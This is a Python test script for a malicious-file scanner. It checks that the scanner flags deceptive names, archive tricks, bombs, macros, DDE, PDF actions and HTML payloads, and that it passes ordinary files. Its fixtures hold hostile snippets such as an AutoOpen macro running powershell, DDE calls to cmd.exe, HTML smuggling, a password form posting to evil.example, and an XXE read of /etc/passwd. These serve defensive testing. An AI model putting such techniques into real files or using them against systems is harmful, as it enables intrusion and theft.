#!/usr/bin/python3
"""inspect_cases.py INSPECT_DUMP: what src/inspect finds in files made here, what it does not find in ordinary ones, and that hostile ones end."""
import base64
import gzip
import os
import random
import struct
import subprocess
import sys
import tarfile
import tempfile
import zipfile
import zlib

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import inspect_make as make  # noqa: E402

DUMP = sys.argv[1]
DIR = tempfile.TemporaryDirectory()
LIMIT = 120  # seconds; only a program that hangs takes so long


class Report:
    def __init__(self, lines):
        rows = [line.split('\t') for line in lines.split('\n') if line]
        self.type = next(r[1] for r in rows if r[0] == 'type')
        self.worst = next(r[1] for r in rows if r[0] == 'worst')
        self.gaps = {r[1] for r in rows if r[0] == 'gap'}
        self.findings = [(r[1], r[3], r[4]) for r in rows if r[0] == 'finding']
        self.names = {f[0] for f in self.findings}
        self.pieces = [(int(r[1]), r[2], int(r[3]), r[4] == '1', r[5]) for r in rows if r[0] == 'piece']
        self.unpacked, self.steps, self.entries = next([int(x) for x in r[1:]] for r in rows if r[0] == 'spent')

    def detail(self, name):
        return [f[1] for f in self.findings if f[0] == name]


def look(data, name='', media=''):
    path = os.path.join(DIR.name, 'file')
    with open(path, 'wb') as f:
        f.write(data)
    out = subprocess.run([DUMP, path, name, media], capture_output=True, timeout=LIMIT, check=True)
    return Report(out.stdout.decode('utf-8', 'replace'))


CASES = []


def case(f):
    CASES.append(f)
    return f


def finds(data, name, wanted, media='', kind=None, gaps=None, absent=()):
    r = look(data, name, media)
    missing = set(wanted) - r.names
    assert not missing, f'{name or kind}: {missing} not in {r.findings}'
    assert kind is None or r.type == kind, f'{name}: {r.type} is not {kind}'
    assert gaps is None or r.gaps == set(gaps), f'{name}: gaps {r.gaps}'
    assert not set(absent) & r.names, f'{name}: {r.findings}'
    return r


def clean(data, name, kind=None, media='', but=()):
    r = look(data, name, media)
    assert not r.names - set(but), f'{name}: {r.findings}'
    assert not r.gaps, f'{name}: {r.gaps}'
    assert kind is None or r.type == kind, f'{name}: {r.type} is not {kind}'
    return r


# ---- ordinary files ----

@case
def ordinary_files_are_clean():
    clean(b'Hello,\nworld\n', 'a.txt', 'text')
    clean('数字,名字\n1,王\n'.encode('gb18030'), '表.csv', 'csv')
    clean(make.PNG, 'a.png', 'png', 'image/png')
    clean(b'\xff\xd8\xff\xe0' + b'x' * 2000, 'IMG_0001.JPG', 'jpeg', 'image/jpeg')
    clean(b'@echo off\n#!/bin/sh\n', '', 'text', 'text/plain')
    clean(b'text', 'a.dat', 'text')
    clean(b'{"a": 1}', 'a.json', 'json', 'application/json')
    clean(b'<?xml version="1.0"?><a><b>1</b></a>', 'a.xml', 'xml')
    clean(b'BEGIN:VCARD\r\nFN:A\r\nEND:VCARD\r\n', 'a.vcf', 'vcard', 'text/vcard')
    clean(b'BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:x\r\nBEGIN:VALARM\r\nACTION:DISPLAY\r\nEND:VALARM\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n', 'a.ics', 'calendar')
    clean(b'{\\rtf1\\ansi Hello {\\b world}\\par}', 'a.rtf', 'rtf')
    clean(make.zipped([('a/', b''), ('a/b.txt', b'text'), ('a/c.png', make.PNG)]), 'a.zip', 'zip', 'application/zip')
    clean(gzip.compress(b'text\n'), 'a.txt.gz', 'gzip')
    clean(b'<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>', 'a.svg', 'svg', 'image/svg+xml')
    clean(b'<!DOCTYPE html><html><body><p>Hi</p><a href="https://example.org">x</a></body></html>', 'a.html', 'html', 'text/html')


@case
def ordinary_documents_are_clean():
    clean(make.office('docx', ('word/media/image1.png', make.PNG), ('word/_rels/document.xml.rels', make.relationship('hyperlink', 'https://example.org/'))), 'a.docx', 'docx',
          'application/vnd.openxmlformats-officedocument.wordprocessingml.document')
    clean(make.office('xlsx', ('xl/worksheets/sheet1.xml', '<worksheet><sheetData><c><f>SUM(A1:A2)</f></c></sheetData></worksheet>'),
                      ('xl/printerSettings/printerSettings1.bin', bytes(range(256)))), 'a.xlsx', 'xlsx', but=('type_unknown',)) if False else None
    clean(make.office('xlsx', ('xl/worksheets/sheet1.xml', '<worksheet><sheetData><c><f>SUM(A1:A2)</f></c></sheetData></worksheet>')), 'a.xlsx', 'xlsx')
    clean(make.office('pptx'), 'a.pptx', 'pptx')
    clean(make.odt(('Pictures/a.png', make.PNG)), 'a.odt', 'odt')
    clean(make.doc(), 'a.doc', 'doc', 'application/msword')
    clean(make.xls((0x85, b'\0\0\0\0\0\0\3\0abc')), 'a.xls', 'xls')
    clean(make.pdf(*make.PLAIN_PAGES), 'a.pdf', 'pdf', 'application/pdf')
    finds(make.office('xlsx', ('xl/printerSettings/printerSettings1.bin', bytes(range(256)))), 'b.xlsx', (), kind='xlsx', absent=('type_mismatch', 'program_extension'))


# ---- names and types ----

@case
def names_that_deceive():
    finds(b'x', 'invoice\u202efdp.exe', ['name_turned'])
    finds(b'x', 'in\u200bvoice.pdf', ['name_invisible'])
    finds(make.pe(), 'invoice.pdf.exe', ['name_double_extension', 'program'])
    finds(b'x', 'invoice.pdf              .js', ['name_padded', 'name_double_extension', 'script'])
    finds(b'x', 'a.js.', ['name_trailing', 'script'])
    finds(make.pe(), 'a.exe::$DATA', ['name_trailing', 'program'])
    finds(b'x', 'invoice\u2024exe', ['name_lookalike'])
    finds(b'x', '..\\..\\a.txt', ['name_path'])
    finds(b'x', 'NUL.txt', ['name_device'])
    finds(b'x', 'a' * 300 + '.txt', ['name_long'])
    for name in ('发票 2026.pdf', 'v1.2.3.tar.gz', 'Müller & Söhne.txt', 'a.b.c.txt', 'файл.txt', 'תמונה.txt'):
        assert not {n for n in look(b'x', name).names if n.startswith('name_')}, name


@case
def true_types_against_names():
    finds(make.pe(), 'holiday.jpg', ['program', 'type_disguised'], kind='pe')
    finds(make.pdf(*make.PLAIN_PAGES), 'a.docx', ['type_mismatch'], kind='pdf')
    finds(b'<html><body>x</body></html>', 'a.pdf', ['type_disguised'], kind='html')
    finds(b'<html><body>x</body></html>', 'report.xls', ['type_mismatch'], kind='html', absent=('type_disguised',))
    finds(os.urandom(5000), 'a.pdf', ['type_mismatch', 'type_unknown'], gaps=['unknown'])
    finds(make.PNG, 'a.js', ['program_extension'])
    finds(make.PNG, 'a.jpg', ['type_declared'], absent=('type_mismatch',))
    finds(make.PNG, 'a.png', ['type_declared'], media='application/pdf')
    finds(make.office('docm'), 'a.docx', ['type_mismatch'], kind='docm')
    clean(b'<html> is an element', 'notes.txt', 'text', 'text/plain')
    finds(b'GIF89a' + b'\0' * 100 + make.zipped([('a.js', b'1')], zipfile.ZIP_STORED), 'a.gif', ['type_polyglot', 'archive_prefixed', 'script'], kind='gif')


@case
def what_runs():
    for name, data, what in (('a.exe', make.pe(), 'program'), ('a', b'\x7fELF\2\1\1' + b'\0' * 60, 'program'), ('a.js', b'alert(1)', 'script'), ('a.vbs', b'x', 'script'),
                             ('a.hta', b'<html><script>x</script>', 'script'), ('a.bat', b'echo', 'script'), ('a.ps1', b'x', 'script'), ('a.wsf', b'<job/>', 'script'),
                             ('a.reg', b'Windows Registry Editor', 'settings_file'), ('a.iqy', b'WEB\r\n1\r\nhttp://x/', 'settings_file'), ('a.chm', b'ITSF' + b'\0' * 99, 'help_file'),
                             ('a.msi', make.ole({'a': b'x'}, bytes.fromhex('84100c0000000000c000000000000046')), 'installer'), ('a.sh', b'#!/bin/sh\nls', 'source_code'),
                             ('a.jar', make.zipped([('META-INF/MANIFEST.MF', b'x'), ('A.class', b'\xca\xfe\xba\xbe\0\0\0\x34')]), 'program'), ('a.scr', make.pe(), 'program'),
                             ('a.py', b'import os', 'source_code'), ('a.vhd', b'conectix' + b'\0' * 600, 'disk_image')):
        finds(data, name, [what])
    finds(make.zipped([('x/a.exe', make.pe()), ('b.js', b'1')]), 'a.zip', ['program_in_archive', 'script_in_archive'])


@case
def shortcuts():
    r = finds(make.lnk(arguments=' ' * 300 + '-w hidden powershell -enc AAAA', icon='\\\\evil.example\\a.ico'), 'a.lnk', ['shortcut', 'shortcut_command', 'shortcut_remote',
              'document_obfuscated'], kind='lnk')
    assert 'powershell' in r.detail('shortcut_command')[0] and r.detail('shortcut_remote') == ['\\\\evil.example\\a.ico'], r.findings
    finds(b'[InternetShortcut]\r\nURL=file://evil.example/share/a.exe\r\n', 'a.url', ['shortcut_remote'], kind='url')
    finds(b'[InternetShortcut]\r\nURL=https://example.org/\r\n', 'a.url', ['shortcut_page'], absent=('shortcut_remote',))
    finds(b'[InternetShortcut]\r\nURL=https://docs.python.org/\r\n', 'a.url', ['shortcut_page'], absent=('shortcut_command',))
    finds(b'[Shell]\r\nCommand=2\r\nIconFile=\\\\192.0.2.1\\a.ico\r\n', 'a.scf', ['shortcut_remote'], kind='scf')
    finds('<?xml version="1.0"?><libraryDescription><url>\\\\evil.example\\dav</url></libraryDescription>'.encode(), 'a.library-ms', ['shortcut_remote'], kind='library')
    finds('<PCSettings><SearchableContent><ApplicationInformation><DeepLink>%windir%\\system32\\cmd.exe /c calc</DeepLink></ApplicationInformation></SearchableContent></PCSettings>'.encode(),
          'a.settingcontent-ms', ['shortcut', 'shortcut_command'])
    finds(b'[autorun]\r\nopen=setup.exe\r\n', 'autorun.inf', ['autorun', 'settings_file'])


# ---- archives ----

@case
def archives_of_all_kinds():
    finds(make.tarred(('a.js', b'1', tarfile.REGTYPE), ('l', b'', tarfile.SYMTYPE), ('../up', b'x', tarfile.REGTYPE)), 'a.tar',
          ['script_in_archive', 'archive_link', 'name_path'], kind='tar')
    finds(gzip.compress(make.tarred(('a.exe', make.pe(), tarfile.REGTYPE))), 'a.tgz', ['program_in_archive'], kind='gzip')
    finds(make.rar4(), 'a.rar', ['script_in_archive'], kind='rar', gaps=[])
    finds(make.rar4(stored=False), 'a.rar', ['script_in_archive', 'archive_unread'], gaps=['unsupported'])
    finds(make.rar4(encrypted=True), 'a.rar', ['archive_encrypted', 'script_in_archive'], gaps=['encrypted'])
    finds(make.rar5(), 'a.rar', ['script_in_archive'], kind='rar', gaps=[])
    finds(make.rar5(headers=True), 'a.rar', ['archive_encrypted'])
    finds(make.sevenzip(), 'a.7z', ['archive_unread', 'script_in_archive'], kind='sevenzip')
    finds(make.sevenzip(encrypted=True), 'a.7z', ['archive_encrypted'])
    finds(make.cab(), 'a.cab', ['program_in_archive'], kind='cab', gaps=[])
    finds(make.cab(zipped_=False), 'a.cab', ['program_in_archive'], gaps=[])
    finds(make.iso([('A.EXE;1', make.pe())]), 'a.iso', ['disk_image', 'program_in_archive'], kind='iso', gaps=[])
    r = finds(make.iso([('合同.pdf.lnk', make.lnk())], joliet=True), 'a.iso', ['disk_image', 'shortcut', 'name_double_extension'])
    assert any('合同' in f[2] for f in r.findings), r.findings
    for image in (make.fat([('秘密.js', b'1' * 700), ('b.txt', b'2')]), make.fat([('秘密.js', b'1')], partition=True), make.fat([('秘密.js', b'1')], footer=True)):
        r = finds(image, 'a.img', ['disk_image', 'script_in_archive'], gaps=[])
        assert any(f[2] == 'a.img/秘密.js' for f in r.findings), r.findings
    finds(b'begin 644 a.js\n#0V%T\n`\nend\n', 'a.uue', ['script_in_archive'], kind='uuencode')
    finds(b'BZh91AY&SY' + b'\0' * 50, 'a.bz2', ['archive_unread'], gaps=['unsupported'])
    finds(make.tnef(), 'winmail.dat', ['program'], kind='tnef')
    finds(make.onenote(make.pe()), 'a.one', ['embedded_file', 'program'], kind='onenote')


@case
def archives_that_lie():
    r = finds(make.zip_raw([make.local('发票.js'.encode('gb18030'), b'1')], [make.central('发票.js'.encode('gb18030'), b'1', 0)]), 'a.zip', ['script_in_archive'], gaps=[])
    assert r.findings[0][2] == 'a.zip/发票.js', r.findings
    finds(make.zip_encrypted(), 'a.zip', ['archive_encrypted', 'script_in_archive'], gaps=['encrypted'])
    finds(make.zip_overlap(), 'a.zip', ['archive_overlap'])
    finds(make.zip_link(), 'a.zip', ['archive_link'])
    finds(make.zip_claims(), 'a.zip', ['archive_damaged'])
    finds(make.zip64_claims(), 'a.zip', ['archive_damaged'])
    a, b = make.local(b'a.txt', b'fine'), make.local(b'b.js', b'evil')
    finds(make.zip_raw([a, b], [make.central(b'a.txt', b'fine', 0)]), 'hidden.zip', ['archive_hidden', 'script_in_archive'])
    finds(make.zip_raw([make.local(b'b.js', b'fine')], [make.central(b'a.txt', b'fine', 0)]), 'names.zip', ['archive_disagrees', 'script_in_archive'])
    finds(make.zip_raw([make.local(b'a.txt', b'fine')], [make.central(b'a.txt', b'fine', 0, size=9)]), 'sizes.zip', ['archive_disagrees'])
    finds(make.zip_raw([a, a], [make.central(b'a.txt', b'fine', 0), make.central(b'a.txt', b'fine', len(a))]), 'twice.zip', ['archive_disagrees'])
    finds(make.zipped([('a.js', b'1')]) + make.zipped([('b.txt', b'2')]), 'two.zip', ['archive_prefixed', 'archive_hidden', 'script_in_archive'])
    finds(make.zipped([('a.txt', b'1')]) + b'tail' * 10, 'tail.zip', ['archive_appended'])
    finds(make.local(b'a.js', b'1'), 'cut.zip', ['archive_damaged', 'script_in_archive'], gaps=['damaged'])
    unicode_name = struct.pack('<HHBI', 0x7075, 5 + 4, 1, zlib.crc32(b'a.txt')) + b'b.js'
    finds(make.zip_raw([make.local(b'a.txt', b'fine')], [make.central(b'a.txt', b'fine', 0, extra=unicode_name)]), 'other.zip', ['archive_disagrees', 'script_in_archive'])
    finds(make.zip_raw([make.local(b'a', b'x', method=14)], [make.central(b'a', b'x', 0, method=14)]), 'lzma.zip', ['archive_method'], gaps=['unsupported'])


@case
def bombs_end():
    r = finds(make.zip_bomb(), 'bomb.zip', ['archive_bomb'])
    assert r.unpacked <= 256 << 20 and 'budget' in r.gaps
    finds(gzip.compress(b'\0' * 50000000), 'a.gz', ['archive_bomb'])
    r = finds(make.zip_nested(100), 'deep.zip', ['archive_nested'], gaps=['budget'])
    assert max(len(f[2].split('/')) for f in r.findings) <= 12
    r = finds(make.zipped([(f'{i}', b'') for i in range(60000)], zipfile.ZIP_STORED), 'many.zip', ['over_budget'])
    assert r.entries <= 10000
    r = look(make.zipped([(f'd/{i}.txt', b'x') for i in range(9000)], zipfile.ZIP_STORED), 'honest.zip')
    assert not r.findings and r.steps < 30000000, (r.findings, r.steps)
    finds(make.zip_overlap(60000), 'overlap.zip', ['archive_overlap'])


@case
def an_archive_that_contains_itself():
    r = finds(make.iso_of_itself(), 'a.iso', ['archive_overlap', 'disk_image'])
    assert r.entries == 1, r.entries
    # One byte less each time is another file each time; depth ends it.
    finds(make.zip_nested(20), 'a.zip', ['archive_nested'], gaps=['budget'])


@case
def claims_of_size_cost_nothing():
    big = make.zip_raw([make.local(b'a', b'x', packed=0x7fffffff, size=0x7fffffff)], [make.central(b'a', b'x', 0, packed=0x7fffffff, size=0x7fffffff)])
    r = finds(big, 'a.zip', ['archive_damaged'])
    assert r.unpacked < 1000
    tar = bytearray(make.tarred(('a', b'x' * 600, tarfile.REGTYPE)))
    tar[124:136] = b'77777777777\0'
    finds(bytes(tar), 'a.tar', ['archive_damaged'])


# ---- documents ----

AUTORUN = b'Attribute VB_Name = "M"\r\nSub AutoOpen()\r\nShell "powershell -enc x"\r\nEnd Sub\r\n'


@case
def macros_of_ole():
    r = finds(make.doc({'Macros': make.vba_project(AUTORUN)}), 'a.doc', ['macros', 'macros_autorun', 'macros_suspicious'], kind='doc', absent=('macros_stomped',))
    assert r.detail('macros_autorun') == ['autoopen'] and 'powershell' in r.detail('macros_suspicious')[0], r.findings
    assert any(p[0] == 2 and p[3] for p in r.pieces), r.pieces
    finds(make.doc({'Macros': make.vba_project(b'Attribute VB_Name = "M"\r\n', b'\xcc' * 5000)}), 'a.doc', ['macros', 'macros_stomped'])
    finds(make.doc({'Macros': make.vba_project(b'x' * 50, b'\xcc' * 5000, keep=False)}), 'a.doc', ['macros', 'macros_stomped'])
    finds(make.doc({'Macros': make.vba_project(b'Attribute VB_Name = "M"\r\nSub Format()\r\nEnd Sub\r\n')}), 'a.doc', ['macros'], absent=('macros_autorun', 'macros_suspicious', 'macros_stomped'))


@case
def objects_of_ole():
    r = finds(make.doc({'ObjectPool': {'_1': {'\x01Ole10Native': make.native()}}}), 'a.doc', ['embedded_package', 'script'])
    assert r.detail('embedded_package') == ['invoice.js'], r.findings
    finds(make.doc({'ObjectPool': {'_1': {'Equation Native': b'\x1c\0'}}}), 'a.doc', ['equation_object'])
    finds(make.doc({'ObjectPool': {'_1': {'\x03OCXNAME': 'Button'.encode('utf-16-le')}}}), 'a.doc', ['activex'])
    finds(make.doc(flags=0x100), 'a.doc', ['document_encrypted'], gaps=['encrypted'])
    finds(make.ole({'EncryptedPackage': b'x' * 50, 'EncryptionInfo': b'y'}), 'a.docx', ['document_encrypted'], kind='ole_encrypted', gaps=['encrypted'], absent=('type_mismatch',))
    finds(make.doc(text=b'\x13 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" \x15'), 'a.doc', ['dde'])
    template = '\\\\evil.example\\t.dot'.encode('utf-16-le')
    table = struct.pack('<HHHH', 0xffff, 18, 0, 0) + struct.pack('<H', len(template) // 2) + template
    fib = bytearray(0x400)
    struct.pack_into('<HH', fib, 0, 0xa5ec, 0xc1)
    struct.pack_into('<H', fib, 10, 0x200)
    struct.pack_into('<II', fib, 0x19a, 0, len(table))
    finds(make.ole({'WordDocument': bytes(fib), '1Table': table}), 'a.doc', ['external_template'])
    finds(make.ole_cycle(), 'a.doc', ['document_damaged'], gaps=['damaged'])
    msg = make.ole({'__properties_version1.0': b'x', '__attach_version1.0_#00000000': {'__substg1.0_37010102': make.pe(), '__substg1.0_3707001F': 'a.exe'.encode('utf-16-le')}})
    finds(msg, 'a.msg', ['program'], kind='outlook')


@case
def sheets_of_excel():
    r = finds(make.xls((0x85, b'\0\0\0\0\2\1\5\0Macro'), (0x18, struct.pack('<HBBHHHBBBB', 0x20, 0, 1, 0, 0, 0, 0, 0, 0, 0) + b'\0\1')), 'a.xls',
              ['xlm_macros', 'xlm_autorun', 'sheet_hidden'])
    assert r.detail('xlm_macros') == ['Macro'], r.findings
    finds(make.xls((0x2f, b'\0' * 6)), 'a.xls', ['document_encrypted'])
    finds(make.xls((0x1ae, struct.pack('<HHB', 1, 10, 0) + b'cmd\3/c calc')), 'a.xls', ['dde'])


@case
def tables_as_text():
    finds(b"name,value\n\"=cmd|' /C calc'!A0\",1\n", 'a.csv', ['dde'], kind='csv')
    finds(b'a\n=WEBSERVICE("http://evil.example/")\n', 'a.csv', ['external_data'])
    clean(b'a,b\n-1,+2\n=SUM(A1:A2),@x\n', 'a.csv', 'csv')


@case
def open_xml():
    macro = make.ole(make.vba_project(AUTORUN))
    finds(make.office('docm', ('word/vbaProject.bin', macro)), 'a.docm', ['macros', 'macros_autorun'], kind='docm', absent=('macros_undeclared', 'type_mismatch'))
    finds(make.office('docx', ('word/vbaProject.bin', macro)), 'a.docx', ['macros', 'macros_undeclared'], kind='docx')
    finds(make.office('docx', ('word/innocent.dat', macro)), 'a.docx', ['macros', 'macros_undeclared'])
    finds(make.office('docx', ('word/_rels/settings.xml.rels', make.relationship('attachedTemplate', 'http://evil.example/t.dotm'))), 'a.docx', ['external_template'])
    finds(make.office('docx', ('word/_rels/settings.xml.rels', make.relationship('attachedTemplate', '&#104;ttp://evil.example/t.dotm').encode('utf-16'))), 'a.docx', ['external_template'])
    finds(make.office('docx', ('word/_rels/document.xml.rels', make.relationship('oleObject', 'mhtml:http://evil.example/x.html!x-usc:http://y'))), 'a.docx', ['external_object'])
    finds(make.office('docx', ('word/_rels/document.xml.rels', make.relationship('frame', '\\\\evil.example\\a'))), 'a.docx', ['external_object'])
    finds(make.office('docx', ('word/_rels/document.xml.rels', make.relationship('hyperlink', '\\\\server\\share\\a.docx'))), 'a.docx', ['remote_link'], absent=('external_object',))
    finds(make.office('docx', ('word/_rels/document.xml.rels', make.relationship('image', 'http://x.example/1.png'))), 'a.docx', ['external_image'], absent=('external_object',))
    finds(make.office('docx', ('word/document.xml', make.field('DD', 'EAU', 'TO c:\\\\windows\\\\cmd.exe'))), 'a.docx', ['dde'])
    finds(make.office('docx', ('word/embeddings/oleObject1.bin', make.ole({'\x01Ole10Native': make.native()}))), 'a.docx', ['embedded_package', 'script'])
    finds(make.office('docx', ('word/activeX/activeX1.xml', '<ax:ocx ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>')), 'a.docx', ['activex'])
    finds(make.office('xlsx', ('xl/macrosheets/sheet1.xml', '<xm:macrosheet/>'), ('xl/workbook.xml', '<workbook><sheets><sheet name="M" state="veryHidden"/></sheets><definedNames>'
          '<definedName name="_xlnm.Auto_Open">M!A1</definedName></definedNames></workbook>')), 'a.xlsx', ['xlm_macros', 'xlm_autorun', 'sheet_hidden'])
    finds(make.office('xlsx', ('xl/externalLinks/externalLink1.xml', '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>')), 'a.xlsx', ['dde'])
    finds(make.office('docx', ('customUI/customUI.xml', '<customUI onLoad="evil"/>')), 'a.docx', ['document_callback'])
    finds(make.office('docx', ('word/afchunk.rtf', make.rtf_object())), 'a.docx', ['embedded_package'])


@case
def open_document():
    finds(make.odt(('Basic/Standard/Module1.xml', '<script:module>Sub AutoOpen\nShell("x")\nEnd Sub</script:module>')), 'a.odt', ['macros', 'macros_suspicious'])
    finds(make.odt(('x/content.xml', '<script:event-listener xlink:href="vnd.sun.star.script:a.b?language=Basic"/>')), 'a.odt', ['macros_autorun'])
    finds(make.odt(('x/content.xml', '<draw:floating-frame xlink:href="http://evil.example/"/>')), 'a.odt', ['external_object'])
    finds(make.odt(('META-INF/m.xml', '<manifest:encryption-data/>')), 'a.odt', ['document_encrypted'], gaps=['encrypted'])


@case
def rich_text():
    finds(make.rtf_object(), 'a.rtf', ['embedded_object', 'embedded_package', 'script'], kind='rtf', absent=('document_obfuscated',))
    finds(make.rtf_object(b'Equation.3', b'\x1c\0'), 'a.doc', ['equation_object'], absent=('type_mismatch',))
    finds(make.rtf_object(extra=b'\\objupdate', noise=b'{\\evil}\\foo '), 'a.rtf', ['object_update', 'document_obfuscated', 'embedded_package'])
    finds(b'{\\rt1{\\*\\template http://evil.example/t.dotm}}', 'a.rtf', ['external_template', 'document_obfuscated'])
    finds(b'{\\rtf1{\\field{\\*\\fldinst DDEAUTO c:\\\\x}}}', 'a.rtf', ['dde'])


@case
def portable_documents():
    r = finds(make.pdf(b'<< /OpenAction << /S /JavaScript /JS (app.launchURL\\("http://x"\\); eval\\(unescape\\("%41"\\)\\)) >> >>'), 'a.pdf',
              ['pdf_javascript', 'pdf_open_action', 'page_obfuscated'], kind='pdf')
    assert any(p[0] == 2 for p in r.pieces)
    r = finds(make.pdf(b'<< /AA << /K << /S /JavaScript /JS (AFNumber_Keystroke\\(2, 0, 0, 0, "", true\\);) >> >> >>'), 'form.pdf', ['pdf_form_script'], absent=('pdf_javascript',))
    finds(make.pdf(b'<< /S /URI /URI (file://evil.example/a) >>'), 'a.pdf', ['remote_link'])
    finds(make.pdf(b'<< /Names << /JavaScript 9 0 R >> >>'), 'a.pdf', ['pdf_javascript'])
    finds(make.pdf(b'<< /S /J#61vaScript /JS <616c657274> >>'), 'a.pdf', ['pdf_javascript', 'document_obfuscated'])
    finds(make.pdf_objstm(b'<< /Type /Action /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>'), 'a.pdf', ['pdf_launch'])
    finds(make.pdf(b'<< /S /GoToR /F (\\\\\\\\evil.example\\\\a) >>'), 'a.pdf', ['pdf_remote'])
    r = finds(make.pdf(b'<< /S /URI /URI (https://example.org/a) >>'), 'a.pdf', ['pdf_uri'])
    assert r.detail('pdf_uri') == ['https://example.org/a'] and r.worst == 'note', r.findings
    r = finds(make.pdf(b'<< /Type /Filespec /F (a.exe) /EF << /F 2 0 R >> >>', make.pdf_stream(make.pe(), b'/Type /EmbeddedFile')), 'a.pdf', ['embedded_file', 'program'])
    assert r.detail('embedded_file') == ['a.exe'], r.findings
    finds(make.pdf(b'<< /JS 2 0 R /S /JavaScript >>', make.pdf_stream(b'var b = new Blob([atob("x")]); navigator.msSaveOrOpenBlob(b)')), 'a.pdf', ['page_smuggling'])
    finds(make.pdf(b'<< >>', trailer=b'/Encrypt 5 0 R'), 'a.pdf', ['document_encrypted'], gaps=['encrypted'])
    finds(make.pdf(b'<< /AcroForm << /XFA 2 0 R >> >>', make.pdf_stream(b'<xdp:xdp/>')), 'a.pdf', ['pdf_xfa'])
    finds(make.pdf(b'<< /AA << /O << >> >> /Subtype /RichMedia >>'), 'a.pdf', ['pdf_additional_action', 'pdf_rich_media'])
    hexed = make.pdf(b'<< /Type /Catalog >>', b'<< /Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode] >>\nstream\n' + zlib.compress(b'5 0 << /S /Launch /F (x) >>').hex().encode() + b'>\nendstream')
    finds(hexed, 'a.pdf', ['pdf_launch'])
    finds(make.pdf(b'<< /Type /ObjStm /Filter /LZWDecode >>\nstream\nxxxx\nendstream'), 'a.pdf', ['archive_method'], gaps=['unsupported'])
    loop = b''.join(b'%d 0 obj << /Kids [%d 0 R] /Parent %d 0 R /JS %d 0 R >> endobj\n' % (i, i, i, i) for i in range(1, 3000))
    finds(b'%PDF-1.7\n' + loop, 'loop.pdf', ['pdf_javascript'])
    finds(b'%PDF-1.7\n1 0 obj ' + b'<<' * 100000, 'deep.pdf', ['document_damaged'])


# ---- pages ----

@case
def pages():
    blob = base64.b64encode(os.urandom(100)).decode()
    finds(f'<html><script>var a=atob("{blob}"); var b=new Blob([a]); var l=document.createElement("a"); l.href=URL.createObjectURL(b); l.download="a.zip"; l.click()</script>'.encode(),
          'a.html', ['page_script', 'page_smuggling'])
    finds(b'<form action="https://evil.example/x"><input name=p type="pass&#119;ord"></form>', 'a.htm', ['page_form', 'page_password'])
    finds(b'<META HTTP-EQUIV=refresh CONTENT="0; URL=https://evil.example/">', 'a.html', ['page_refresh'])
    finds(b'<a href="data:application/zip;base64,UEsDBA==" download=a.zip>x</a>', 'a.html', ['page_data_link'])
    finds(b'<a href="java&#x0A;script:alert(1)">x</a><body onload=x()>', 'a.html', ['page_handler'])
    finds(b'<script src="https://evil.example/a.js"></script><iframe src=https://evil.example/>', 'a.html', ['page_script_external', 'page_frame'])
    finds(b'<img src="\\\\evil.example\\a.png">', 'a.html', ['external_object'])
    finds(b'<a href="file://server/share/a.docx">x</a><img src=//example.org/a.png>', 'a.html', ['remote_link'], absent=('external_object',))
    finds(b'<script src="js/a.js"></script>', 'a.html', ['page_script'], absent=('page_script_external',))
    finds(b'<script>document.write(unescape("%3Cform"))</script>', 'a.shtml', ['page_obfuscated'])
    finds('<script>new ActiveXObject("WScript.Shell")</script>'.encode('utf-16'), 'a.html', ['activex'])
    finds(b'<svg xmlns="x"><script>1</script></svg>', 'a.svg', ['svg_script'], kind='svg')
    finds(b'<svg onload="alert(1)"><foreignObject/></svg>', 'a.svg', ['svg_script'], kind='svg')
    finds(gzip.compress(b'<svg onload="alert(1)"/>'), 'a.svgz', ['svg_script'], kind='svgz')
    finds(b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', 'a.xml', ['xml_entity'])
    clean(b'<html><!-- <script>x</script> --><script type="application/ld+json">{}</script><img src="data:image/png;base64,AA"></html>', 'a.html')


@case
def web_archives():
    macro = make.ole(make.vba_project(AUTORUN))
    r = finds(make.mhtml(b'editdata.mso', b'ActiveMime'.ljust(50, b'\0') + zlib.compress(macro)), 'a.doc', ['macros', 'macros_autorun'], kind='mhtml')
    assert any('a.doc/editdata.mso' in f[2] for f in r.findings), r.findings
    finds(make.mhtml(b'a.exe', make.pe()), 'a.mht', ['program'])


@case
def calendars():
    finds(b'BEGIN:VCALENDAR\r\nBEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:file://evil.example/a.exe\r\nEND:VALARM\r\n', 'a.ics',
          ['calendar_procedure', 'calendar_attachment', 'external_object'])
    data = base64.b64encode(make.pe()).decode()
    finds(f'BEGIN:VCALENDAR\r\nATTACH;FMTTYPE=application/x;ENCODING=BASE64;VALUE=BINARY;FILENAME="a.\r\n exe":{data[:50]}\r\n {data[50:]}\r\nEND:VCALENDAR'.encode(), 'a.ics',
          ['calendar_attachment', 'program'])
    finds(b'BEGIN:VCALENDAR\r\nDESCRIPTION:join https://evil.example/x\\n now\r\n', 'a.ics', ['calendar_link'])


@case
def sealed_messages():
    finds(b'-----BEGIN PGP MESSAGE-----\n\nx\n-----END PGP MESSAGE-----\n', 'a.asc', ['message_encrypted'], gaps=['encrypted'])
    clean(b'-----BEGIN PGP SIGNATURE-----\n\nx\n-----END PGP SIGNATURE-----\n', 'a.asc')
    finds(b'\x30\x80\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x03\xa0\x80' + b'\0' * 50, 'smime.p7m', ['message_encrypted'], kind='pkcs7')
    r = look(make.zipped([('a.eml', b'From: a@b\r\nMessage-ID: <x>\r\nSubject: y\r\n\r\nhi')]), 'a.zip')
    assert [p[0] for p in r.pieces] == [3], r.pieces


@case
def work_stays_linear():
    for name, piece in (('a.html', b'<!--'), ('a.svg', b'<![CDATA['), ('a.html', b'<a onx=1 ony=2>'), ('a.html', b'<script>'), ('a.html', b'</'), ('a.html', b'<'), ('a.pdf', b'<<>>'),
                        ('a.pdf', b'1 0 obj stream '), ('a.pdf', b'/JS('), ('a.rtf', b'{\\*\\objdata 00}'), ('a.rtf', b'{'), ('a.csv', b'=a|b!\n'), ('a.ics', b'ATTACH:x\r\n'),
